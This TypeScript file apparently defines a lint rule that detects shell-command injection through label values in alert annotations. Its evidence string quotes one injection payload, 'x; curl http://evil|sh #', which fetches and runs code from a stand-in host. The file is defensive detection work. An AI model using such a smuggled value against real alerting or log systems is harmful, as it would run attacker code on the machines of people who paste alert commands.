import { expandAlertTemplate } from "../../alerting/alert-template/expand";
import { type AlertText, type RuleAnalysis, readLabel, type SelectionAnalysis } from "../../alerting/rule-analysis";
import type { SourceContract, SourceLabel } from "../../alloy/source-contracts";
import {
  ANY_CHARACTER,
  type Characters,
  expressionsIn,
  labelCharacters,
  labelsAfter,
  ofExpression,
  type StreamCharacters,
} from "../../logql";
import type { RenderedStack } from "../../stack/rendered-stack";
import { type RuleFinding, ruleCheck } from "./rule-check";
import { ACTIVE, type Quotes, quotesAt, type ShellCommand, shellCommands } from "./shell-commands";

export const ruleUntrustedCommand = ruleCheck({
  id: "rule-untrusted-command",
  title: "Commands in annotations contain only text of a known form",
  severity: "error",
  why: "people paste the command of a notification into a terminal; the writer of a log line or an event then decides what the shell runs",
  remedy: "filter the label by the form of its values in the query, or remove it from the command",
  evidence:
    'measured on Kubernetes 1.36: with the role edit, an event about "x; curl http://evil|sh #" is created, and its name reaches the alert',
  find: (rule, stack) =>
    rule.texts.flatMap((text) => (text.section === "annotations" ? findings(rule, text, stack) : [])),
});

function findings(rule: RuleAnalysis, text: AlertText, stack: RenderedStack): readonly RuleFinding[] {
  if (text.template.nodes.length === 0 || shellCommands(text.entry.text.value).length === 0) return [];
  return labelsIn(rule, text).flatMap((name) => {
    const characters = charactersOf(rule, name, stack);
    const possible = ACTIVE.none.filter(characters);
    const first =
      possible.length === 0 ? undefined : pastes(text, name, possible).find(({ active }) => active.length > 0);
    return first === undefined ? [] : [finding(rule, text, name, first, characters)];
  });
}

function labelsIn({ labels }: RuleAnalysis, { template }: AlertText): readonly string[] {
  const read = template.references.flatMap((reference) => readLabel(reference) ?? []);
  return [...new Set([...labels.names, ...read.filter((name) => labels.mayHave(name))])];
}

function finding(
  { rule, labels }: RuleAnalysis,
  { entry, template }: AlertText,
  name: string,
  { command, quotes, active }: Paste,
  characters: Characters,
): RuleFinding {
  const reference = template.references.find((one) => readLabel(one) === name);
  const quoting = quotes === "single" || characters("'") ? null : `write '{{ $labels.${name} }}' in single quotes`;
  const form = `add | ${name}=~"${FORM}" at the end of the pipeline`;
  return {
    location: reference === undefined ? entry.text.location() : entry.text.locationOf(reference),
    got: `annotations.${entry.name} with the label "${name}" in the command "${command}", while its value may contain ${named(active)}`,
    expected: "a value that can only be an argument of the command",
    remedy:
      quoting ??
      `${form}${labels.names.has(name) || rule.expr.value.includes(name) ? "" : ", and group by it"}, or remove ${name} from the command`,
  };
}

/** The values that most systems accept as a name. */
const FORM = "[A-Za-z0-9][-A-Za-z0-9_.]*";

const NAMES: Readonly<Record<string, string>> = {
  " ": "a space",
  "\t": "a tab",
  "\n": "a new line",
  "'": "a single quote",
};

function named(active: readonly string[]): string {
  const [first = "", ...others] = active.map((one) => NAMES[one] ?? one);
  if (others.length === 0) return first;
  return others.length > 3 ? `${first} and ${others.length} other characters` : [first, ...others].join(" ");
}

/** A place in a command where the value of a label appears. */
interface Paste {
  readonly command: string;
  readonly quotes: Quotes;
  /** The characters with a meaning there that the template lets through. */
  readonly active: readonly string[];
}

const BEFORE = "zqz";
const AFTER = "zqx";
const PASTED = /zqz([\s\S]{0,12}?)zqx/gi;

/** Expands the text with each possible character in the label's value: the template may replace or refuse it. */
function pastes(
  { template: { nodes, references } }: AlertText,
  name: string,
  possible: readonly string[],
): readonly Paste[] {
  const names = references.flatMap((reference) => readLabel(reference) ?? []);
  const expand = (value: string) => {
    const labels = [...names.map((other) => [other, "x"] as const), [name, value] as const];
    return expandAlertTemplate(nodes, { labels, value: 12.5, now: 0 })?.text ?? "";
  };
  const plain = expand(BEFORE + AFTER);
  const commands = shellCommands(plain);
  const places = [...plain.matchAll(PASTED)].map(({ index }) => index);
  const inCommand = places.flatMap((at, order) => {
    const command = commands.find(({ from, to }) => from < at && at < to);
    return command === undefined ? [] : [{ at, order, command }];
  });
  if (inCommand.length === 0) return [];
  const expanded = new Map(possible.map((one) => [one, [...expand(BEFORE + one + AFTER).matchAll(PASTED)]]));
  return inCommand.map(({ at, order, command }) => {
    const quotes = quotesAt(plain, command.from, at);
    const survives = (one: string) => {
      const found = expanded.get(one) ?? [];
      const here = found.length === places.length ? found.slice(order, order + 1) : found;
      return here.some(([, text]) => text === one);
    };
    return { command: commandText(plain, command, name), quotes, active: ACTIVE[quotes].filter(survives) };
  });
}

const SHORT = 60;

function commandText(text: string, { from, to }: ShellCommand, name: string): string {
  const written = text.slice(from, to).replace(PASTED, `{{ $labels.${name} }}`);
  return written.length > SHORT ? `${written.slice(0, SHORT)}…` : written;
}

/** The characters that a label of the alert's series may contain. */
function charactersOf({ metric, selections, linesOf }: RuleAnalysis, name: string, stack: RenderedStack): Characters {
  if (metric === null) return ANY_CHARACTER;
  const replaced = expressionsIn(metric).flatMap((part) =>
    part.kind === "labelReplace" && part.target.value === name ? [ofExpression(part.pattern.value)] : [],
  );
  const selected = selections.flatMap((analysis) =>
    labelsAfter(linesOf(analysis.selection), analysis.selection).mayHave(name)
      ? ofSelection(analysis, name, stack)
      : [],
  );
  const all = [...replaced, ...selected];
  return all.length === 0 ? ANY_CHARACTER : (character) => all.some((one) => one(character));
}

function ofSelection(
  { selection, sources }: SelectionAnalysis,
  name: string,
  stack: RenderedStack,
): readonly Characters[] {
  const isOpen = stack.model.access.kind === "open";
  const streams = sources.length === 0 ? [UNKNOWN] : sources.map((source) => streamCharacters(source, isOpen));
  return streams.map((stream) => labelCharacters(stream, selection).get(name) ?? ANY_CHARACTER);
}

/** Streams that no agent sends, such as those of a source that is off. The query still constrains what it extracts. */
const UNKNOWN: StreamCharacters = { labels: new Map(), metadata: new Map() };

/** @param isOpen whether any pod can push streams with any label */
function streamCharacters({ labels, metadata }: SourceContract, isOpen: boolean): StreamCharacters {
  const of = (known: readonly SourceLabel[]) =>
    new Map(
      known.map(({ name, values, chosen }) => [name, isOpen || chosen ? ANY_CHARACTER : values.contains] as const),
    );
  return { labels: of(labels), metadata: of(metadata) };
}
